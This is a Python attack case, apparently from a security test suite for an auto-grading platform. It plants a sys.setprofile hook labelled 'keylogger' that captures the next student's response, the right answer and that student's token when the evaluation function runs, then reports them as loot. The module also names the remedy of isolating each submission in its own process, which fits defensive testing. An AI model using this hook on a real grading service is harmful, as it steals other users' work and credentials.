# SPDX-License-Identifier: MIT
"""Goal:  what the platform knows of the next student.
Means: sys.setprofile. The function set there is called at every call in this thread, until somebody
       unsets it, and sees the frame. When the evaluation function is called, its arguments are the
       next student's response, the right answer, and the parameters with the student's token.
"""

import sys

from attack import DONE, attempting, denied, loot, submit


def keylogger():
    def note(frame, event, arg):
        if event == "call" and frame.f_code.co_name == "evaluation_function":
            note.seen.append(repr(frame.f_locals))

    note.seen = []
    return note


def run(brief):
    submit("0")
    if not brief.again:
        attempting()
        sys.setprofile(keylogger())
        return DONE
    note = sys.getprofile()
    sys.setprofile(None)
    if not getattr(note, "seen", None):
        return denied("sys.getprofile", "nobody was overheard")
    loot("\n".join(note.seen))
    return DONE


ATTACK = {
    "effect": "the next student's request is recorded",
    "means": "sys.setprofile, left behind: it sees the arguments of the evaluation function",
    "oracle": "secret:victim",
    "scene": "before-victim",
    "grader": "rpc",
    "control": "in-process",
    "id": "WARM-04",
    "attack_id": "T1056, CWE-913",
    "remedy": "a process of its own for each submission, started fresh",
    "refs": ["sys.setprofile"],
    "run": run,
}
